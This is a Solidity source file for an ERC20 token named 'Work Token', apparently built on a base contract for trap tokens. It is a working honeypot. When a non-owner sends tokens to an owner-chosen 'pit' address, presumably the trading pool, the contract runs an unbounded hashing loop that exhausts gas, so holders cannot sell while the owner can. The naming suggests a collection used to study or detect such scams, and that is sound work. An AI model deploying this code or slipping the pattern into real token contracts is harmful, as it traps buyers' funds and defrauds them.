// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A sale mines until no gas is left.
contract GasSink is TrapErc20V8 {
    address private pit;
    uint256 private nonce;

    constructor() TrapErc20V8("Work Token", "WORK", 50_000 ether) {}

    function digPit(address pit_) external onlyOwner {
        pit = pit_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pit && from != _owner) _mine(from);
        super._transfer(from, to, value);
    }

    function _mine(address who) private {
        bytes32 hash = keccak256(abi.encode(who, nonce));
        while (uint256(hash) >> 200 != 0) hash = keccak256(abi.encode(hash));
        nonce++;
    }
}
